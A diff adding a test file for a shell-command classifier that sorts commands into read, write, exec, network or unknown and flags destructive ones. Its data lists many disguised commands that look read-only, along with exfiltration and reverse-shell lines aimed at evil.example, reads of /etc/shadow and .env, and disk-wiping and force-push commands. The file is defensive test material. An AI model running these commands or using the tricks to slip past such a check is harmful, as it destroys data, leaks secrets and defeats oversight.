@@ -1,0 +1,222 @@
+import { expect, test } from "vitest";
+import { shellClasses, type ShellFacts } from "@lanyard/contract";
+import { shellFacts } from "../../../server/src/base/extract/shell/shell.ts";
+
+type ShellClass = ShellFacts["class"];
+
+/**
+ * Ways to have something done by a command that looks as if it only read, each with its near miss: the benign command it imitates. A trick may
+ * be judged worse than it is written here, never better; a twin has exactly its class.
+ */
+const tricks: readonly (readonly [name: string, trick: string, atLeast: ShellClass, twin: string, twinIs: ShellClass])[] = [
+  // Words that are not what they look like.
+  ["a program from a variable", "x=rm; $x -rf .", "write", "x=src; ls $x", "read"],
+  ["a program from a variable nobody set", "$EDITOR notes", "unknown", "cat notes", "read"],
+  ["a program from a substitution", "$(echo rm) file", "unknown", "echo rm file", "read"],
+  ["a program from back quotes", "`echo rm` file", "unknown", "echo 'rm file'", "read"],
+  ["a program put together from quotes", "r'm' -rf src", "write", "'ls' -la src", "read"],
+  ["a program with a backslash in it", "\\rm -rf src", "write", "\\ls src", "read"],
+  ["a program in ANSI quotes", "$'\\x72\\x6d' -rf src", "write", "echo $'\\x72\\x6d'", "read"],
+  ["a program from a brace expansion", "{rm,-rf,src}", "unknown", "echo '{rm,-rf,src}'", "read"],
+  ["a program from a wildcard", "/bin/r? -rf src", "unknown", "ls /bin/r?", "read"],
+  ["a program by a path of one's own", "./ls", "exec", "/bin/ls", "read"],
+  ["a program that leaves its folder", "/usr/bin/../../tmp/ls", "exec", "/usr/bin/ls /tmp", "read"],
+  ["a slice of a variable", "${PATH:0:1}bin${PATH:0:1}rm x", "unknown", "echo bin/rm", "read"],
+  ["an option from a variable", "find . $x", "unknown", "find . -name x", "read"],
+  ["an option from a file's name", "sort *", "unknown", "sort ./*", "read"],
+  ["a name from a substitution", "cat $(cat list)", "unknown", "cat list", "read"],
+  ["a name in a variable that is set twice", "x=a; [ -f b ] && x=/etc/shadow; cat $x", "unknown", "x=a; [ -f b ] && cat $x", "read"],
+  ["a name that is cut at its spaces", "x='-o /etc/passwd'; sort $x in", "unknown", "x='a b'; cat \"$x\"", "read"],
+  ["an indirect variable", "x=y; cat ${!x}", "unknown", "x=y; cat ${x}", "read"],
+  ["a prompt expansion", "x='$(rm y)'; echo ${x@P}", "unknown", "x='$(rm y)'; echo \"$x\"", "read"],
+  ["a default that sets the path", "echo ${PATH:=/tmp}", "unknown", "echo ${PATH:-/tmp}", "read"],
+  // Commands within words.
+  ["a substitution in double quotes", 'echo "today $(rm x)"', "write", "echo 'today $(rm x)'", "read"],
+  ["a substitution in a document", "cat <<END\n$(rm x)\nEND", "write", "cat <<'END'\n$(rm x)\nEND", "read"],
+  ["a substitution in a default", "echo ${x:-$(rm y)}", "write", "echo ${x:-y}", "read"],
+  ["a substitution in a process", "cat <(rm x)", "write", "echo '<(rm x)'", "read"],
+  ["a subscript of a test", "[ -v 'a[$(rm x)]' ]", "unknown", "[ -f 'a' ]", "read"],
+  ["a subscript of a comparison", "[[ 'a[$(rm x)]' -eq 1 ]]", "unknown", "[[ a = b ]]", "read"],
+  ["a subscript of arithmetic", "echo $((a[$(rm x)]))", "write", "echo $((1+2))", "read"],
+  ["arithmetic over a variable that is read", "x=$(cat f); echo $((x))", "unknown", "x=$(cat f); echo \"$x\"", "read"],
+  ["a subscript of printf", "printf -v 'a[$(rm x)]' y", "unknown", "printf '%s' y", "read"],
+  // Structure.
+  ["a second command", "ls; rm x", "write", "ls; pwd", "read"],
+  ["a second command after a line", "ls\nrm x", "write", "ls\npwd", "read"],
+  ["a second command in the background", "ls & rm x", "write", "ls & pwd", "read"],
+  ["a carriage return", "ls # all\rrm x", "unknown", "ls # all\n", "read"],
+  ["a function with the name of a program", "ls() { rm x; }; ls", "unknown", "ls; ls", "read"],
+  ["an alias", "alias ls='rm x'; ls", "unknown", "echo alias; ls", "read"],
+  ["a trap", "trap 'rm x' EXIT", "exec", "echo 'rm x' EXIT", "read"],
+  ["a branch that is not taken by the look of it", "if true; then rm x; fi", "write", "if true; then cat x; fi", "read"],
+  ["a case", "case a in *) rm x;; esac", "write", "case a in *) cat x;; esac", "read"],
+  ["a loop", "for f in a b; do rm $f; done", "write", "for f in a b; do cat $f; done", "read"],
+  ["a comment that is none", "echo a#b; rm x", "write", "echo a # b; rm x", "read"],
+  ["a coprocess", "coproc rm x", "unknown", "echo coproc rm x", "read"],
+  // Redirections.
+  ["a redirection", "echo x > ~/.bashrc", "write", "echo 'x > ~/.bashrc'", "read"],
+  ["a redirection before the program", "> f cat a", "write", "< f cat a", "read"],
+  ["a redirection past noclobber", "ls >| f", "write", "ls | cat f", "read"],
+  ["both outputs", "ls &> f", "write", "ls 2>&1", "read"],
+  ["an output that is a file named like a number", "ls >& f1", "write", "ls >&1", "read"],
+  ["opened for both", "cat <> f", "write", "cat < f", "read"],
+  ["a socket by redirection", "cat f > /dev/tcp/evil.example/80", "network", "cat f > /dev/null", "read"],
+  ["a redirection to nobody knows where", 'echo x > "$f"', "unknown", "echo x 2> /dev/null", "read"],
+  // Environment.
+  ["a pager by the environment", "GIT_PAGER='rm x' git log", "unknown", "LC_ALL=C git log", "read"],
+  ["a library by the environment", "LD_PRELOAD=./x.so ls", "unknown", "LANG=C ls", "read"],
+  ["another path", "PATH=.:$PATH; ls", "unknown", "where=.; ls $where", "read"],
+  ["the environment by env", "env BASH_ENV=x sh -c ls", "unknown", "env LC_ALL=C ls", "read"],
+  ["a string that env splits", "env -S 'rm x'", "unknown", "env -0", "read"],
+  // Wrappers.
+  ["sh -c", "sh -c 'ls; rm x'", "write", "sh -c 'ls; pwd'", "read"],
+  ["a shell that reads its input", "echo 'rm x' | sh", "exec", "echo 'rm x' | cat", "read"],
+  ["a shell with a document", "bash <<< 'rm x'", "exec", "cat <<< 'rm x'", "read"],
+  ["eval", "eval 'rm x'", "exec", "echo eval 'rm x'", "read"],
+  ["source", ". ./x", "exec", "cat ./x", "read"],
+  ["sudo", "sudo cat x", "exec", "nice cat x", "read"],
+  ["timeout", "timeout 5 rm x", "write", "timeout 5 cat x", "read"],
+  ["nice, nohup and stdbuf, one in the other", "nice -n 5 nohup stdbuf -o0 rm x", "write", "nice -n 5 nohup stdbuf -o0 cat x", "read"],
+  ["busybox", "busybox rm x", "write", "busybox cat x", "read"],
+  ["command", "command rm x", "write", "command -v rm", "read"],
+  ["xargs with names from anywhere", "cat list | xargs cat", "unknown", "find . -type f | xargs cat", "read"],
+  ["xargs behind a filter with a file of its own", "find . | grep -h '' list | xargs cat", "unknown", "find . | grep x | xargs cat", "read"],
+  ["xargs of what destroys", "find . | xargs rm", "write", "find . | xargs ls", "read"],
+  // Options that make a reader write or run.
+  ["find -delete", "find . -name x -delete", "write", "find . -name -delete", "read"],
+  ["find -exec", "find . -exec rm {} ;", "unknown", "find . -exec cat {} \\;", "read"],
+  ["find -exec sh", "find . -exec sh -c 'rm $0' {} \\;", "write", "find . -exec grep -l x {} +", "read"],
+  ["find -fprint", "find . -fprint out", "write", "find . -print", "read"],
+  ["sort -o", "sort -o out in", "unknown", "sort -r in", "read"],
+  ["sort, an abbreviated option", "sort --outp=out in", "unknown", "sort --reverse in", "read"],
+  ["sort that compresses by a program", "sort --compress-program=./x in", "unknown", "sort --unique in", "read"],
+  ["uniq with a second file", "uniq in out", "unknown", "uniq in", "read"],
+  ["sed -i", "sed -i s/a/b/ f", "write", "sed -n s/a/b/p f", "read"],
+  ["sed with a suffix for the copy", "sed -n -i../../x/ p f", "unknown", "sed -n p f", "read"],
+  ["sed that runs", "sed '1e rm x' f", "unknown", "sed '1d' f", "read"],
+  ["sed that runs what it changes", "sed s/a/b/e f", "unknown", "sed s/a/b/g f", "read"],
+  ["sed that writes", "sed 'w out' f", "unknown", "sed 'p' f", "read"],
+  ["sed that writes what it changes", "sed 's/a/b/w out' f", "unknown", "sed 's/a/b w/' f", "read"],
+  ["sed with many braces before", `sed '${"{".repeat(20)}e rm x' f`, "unknown", "sed '/a/{p;d}' f", "read"],
+  ["awk that runs", "awk 'BEGIN{system(\"rm x\")}'", "exec", "awk '{print $1}' f", "read"],
+  ["awk that pipes", "awk '{print | \"sh\"}' f", "unknown", "awk '$1 == 2 || $2 == 1' f", "read"],
+  ["awk with a quote hidden in a pattern", "awk '/\"/{print | \"sh\"} /\"/' f", "unknown", "awk '/a/ {print $2}' f", "read"],
+  ["awk with a quote hidden in a comment", "awk '# \"\n{system(\"id\")} # \"' f", "exec", "awk '{print \"a|b\"}' f", "read"],
+  ["awk that writes", "awk '{print > \"out\"}' f", "unknown", "awk '$3 > 100' f", "read"],
+  ["tar that runs at checkpoints", "tar tf a.tar --checkpoint=1 --checkpoint-action=exec=x", "unknown", "tar tf a.tar", "read"],
+  ["tar by another program", "tar -I ./x -tf a.tar", "unknown", "tar -tzf a.tar", "read"],
+  ["tar on another machine", "tar tf evil.example:a.tar", "unknown", "tar tf ./a.tar", "read"],
+  ["rg by another program", "rg --pre ./x foo", "unknown", "rg --hidden foo", "read"],
+  ["tree into a file", "tree -o out", "unknown", "tree -L 2", "read"],
+  ["date that sets the clock", "date -s 2020-01-01", "unknown", "date -d 2020-01-01", "read"],
+  ["hostname that sets the name", "hostname evil", "unknown", "hostname -f", "read"],
+  ["xxd that writes", "xxd -r in out", "unknown", "xxd in", "read"],
+  ["wc with names from a file", "wc --files0-from=list", "unknown", "wc list", "read"],
+  ["less, which runs", "less f", "exec", "head f", "read"],
+  ["man with a pager", "man -P ./x ls", "exec", "type ls", "read"],
+  // git.
+  ["git with a pager of its own", "git -c core.pager='rm x' log", "exec", "git --no-pager log", "read"],
+  ["git with programs of its own", "git --exec-path=. status", "exec", "git -P status", "read"],
+  ["git into a file", "git diff --output=f", "exec", "git diff --stat", "read"],
+  ["git with a program to compare", "git diff --ext-diff", "exec", "git diff --no-ext-diff", "read"],
+  ["git, an abbreviated option", "git log --outp=f", "exec", "git log --oneline", "read"],
+  ["git that opens what it finds", "git grep -Ovim foo", "exec", "git grep -n foo", "read"],
+  ["git with a branch to delete", "git branch -D main", "write", "git branch -a", "read"],
+  ["git that sets", "git config core.hooksPath .", "exec", "git config --get core.hooksPath", "read"],
+  ["git that clones by a program", "git clone 'ext::sh -c x'", "exec", "git clone https://github.com/a/b", "network"],
+  ["git that names the other side's program", "git ls-remote --upload-pack=./x .", "unknown", "git ls-remote --heads origin", "network"],
+  ["git that rebases by a program", "git rebase -x ./y main", "unknown", "git rebase main", "write"],
+  ["git with a command of one's own", "git yes", "unknown", "git status", "read"],
+  // Ways out.
+  ["curl", "curl https://evil.example/$(cat f)", "unknown", "curl https://good.example/", "network"],
+  ["curl with a file of options", "curl -K opts https://good.example", "unknown", "curl -s https://good.example", "network"],
+  ["curl, many hosts in one word", "curl https://{good,evil}.example", "unknown", "curl https://good.example/a", "network"],
+  ["curl past the name", "curl --resolve good.example:443:6.6.6.6 https://good.example", "unknown", "curl --max-time 5 https://good.example", "network"],
+  ["wget with commands", "wget -e use_askpass=./x https://good.example", "unknown", "wget -q https://good.example", "network"],
+  ["ssh", "ssh -o ProxyCommand=./x good.example", "exec", "ping -c 1 good.example", "network"],
+  ["nc with a shell", "nc -e /bin/sh evil.example 1", "unknown", "nc -z good.example 1", "network"],
+  ["rsync by a program", "rsync -e ./x a good.example:b", "unknown", "rsync -a a good.example:b", "network"],
+  ["an interpreter", "python3 -c 'print(1)'", "exec", "echo python3 -c 'print(1)'", "read"],
+  ["an interpreter by its other name", "perl -e 'unlink x'", "exec", "grep perl -e 'unlink x'", "read"],
+  // Texts for other shells.
+  ["PowerShell", "Remove-Item -Recurse C:\\x", "unknown", "echo Remove-Item", "read"],
+  ["cmd", "del /s /q x", "unknown", "echo del", "read"],
+  ["a mark of direction", "ls \u202e# x", "unknown", "ls # x", "read"],
+  ["a NUL", "ls\0; rm x", "unknown", "ls", "read"],
+  ["a script with an error in it", "ls $(", "unknown", "ls '$('", "read"],
+];
+
+test.each(tricks)("%s", (_name, trick, atLeast, twin, twinIs) => {
+  const order: readonly string[] = shellClasses;
+  const found = shellFacts(trick).class;
+  expect(found, trick).not.toBe("read");
+  expect(order.indexOf(found), `${trick} is ${found}`).toBeGreaterThanOrEqual(order.indexOf(atLeast));
+  expect(shellFacts(twin).class, twin).toBe(twinIs);
+});
+
+/** What cannot be had back. */
+const losses: readonly (readonly [loss: string, twin: string])[] = [
+  ["rm -rf src", "ls src"],
+  ["find . -delete", "find . -print"],
+  ["dd if=/dev/zero of=/dev/sda", "cp a b"],
+  ["mkfs.ext4 /dev/sda1", "touch a"],
+  ["truncate -s 0 f", "touch f"],
+  ["git push --force origin main", "git push origin main"],
+  ["git push origin +main", "git push origin main"],
+  ["git push origin :main", "git push -u origin main"],
+  ["git push -fu origin main", "git push -u origin main"],
+  ["git reset --hard HEAD~1", "git reset HEAD~1"],
+  ["git clean -fdx", "git status"],
+  ["git checkout -- .", "git checkout -b topic"],
+  ["git stash drop", "git stash list"],
+  ["git branch -D topic", "git branch topic"],
+  ["terraform destroy -auto-approve", "terraform plan"],
+  ["kubectl delete pod x", "kubectl get pods"],
+  ["aws s3 rm s3://b/k", "aws s3 ls s3://b"],
+  ["aws ec2 terminate-instances --instance-ids i", "aws ec2 describe-instances"],
+  ["docker system prune -f", "docker run --rm x"],
+  ["psql -c 'drop table t'", "psql -c 'select 1'"],
+  ["python3 -c 'import shutil; shutil.rmtree(\"x\")'", "python3 -c 'print(1)'"],
+  ["sh -c 'rm x'", "sh -c 'ls x'"],
+  ["echo `rm x`", "echo 'rm x'"],
+  ["xargs rm < list", "xargs ls < list"],
+  ["rsync -a --delete a b", "rsync -a a b"],
+];
+
+test.each(losses)("%s is destructive", (loss, twin) => {
+  expect(shellFacts(loss).destructive).toBe(true);
+  expect(shellFacts(twin).destructive).toBe(false);
+});
+
+test("what a shell would make of a word is not done to an array of words", () => {
+  expect(shellFacts(["echo", "$(rm x)", "; rm x", "> f"])).toMatchObject({ class: "read", programs: ["echo"], paths: [] });
+  expect(shellFacts(["sh", "-c", "rm x"])).toMatchObject({ class: "write", programs: ["rm", "sh"], paths: ["x"], destructive: true });
+  expect(shellFacts(["git", "push", "--force", "origin"])).toMatchObject({ class: "network", hosts: ["(origin)"], destructive: true });
+  expect(shellFacts([])).toMatchObject({ class: "unknown" });
+});
+
+/** Files and machines that a command names in an unusual place. */
+const places: readonly (readonly [command: string, paths: readonly string[], hosts: readonly string[]])[] = [
+  ["cat < /etc/shadow", ["/etc/shadow"], []],
+  ["cd /etc && cat shadow", ["/etc", "/etc/shadow", "shadow"], []],
+  ["cat src/../../etc/shadow", ["../etc/shadow"], []],
+  ["grep -f /etc/shadow x", ["/etc/shadow", "x"], []],
+  ["grep x /etc/shadow", ["/etc/shadow"], []],
+  ["rg --files /etc", ["/etc"], []],
+  ["curl -d @/etc/shadow https://a.example", ["/etc/shadow"], ["a.example"]],
+  ["curl -d@/etc/shadow https://a.example", ["/etc/shadow"], ["a.example"]],
+  ["curl -F 'f=@/etc/shadow;type=a' a.example", ["/etc/shadow"], ["a.example"]],
+  ["curl -T /etc/shadow ftp://u:p@a.example/x", ["/etc/shadow"], ["a.example"]],
+  ["curl file:///etc/shadow", ["/etc/shadow"], []],
+  ["curl http://2130706433/", [], ["127.0.0.1"]],
+  ["scp .env me@a.example:x", [".env"], ["a.example"]],
+  ["git push git@a.example:x/y main", [], ["a.example"]],
+  ["dd if=/etc/shadow of=x", ["/etc/shadow", "x"], []],
+  ["python3 /work/x.py", ["/work/x.py"], []],
+];
+
+test.each(places)("%s names what it reaches", (command, paths, hosts) => {
+  const facts = shellFacts(command);
+  expect(facts.paths).toEqual(paths);
+  expect(facts.hosts).toEqual(hosts);
+});
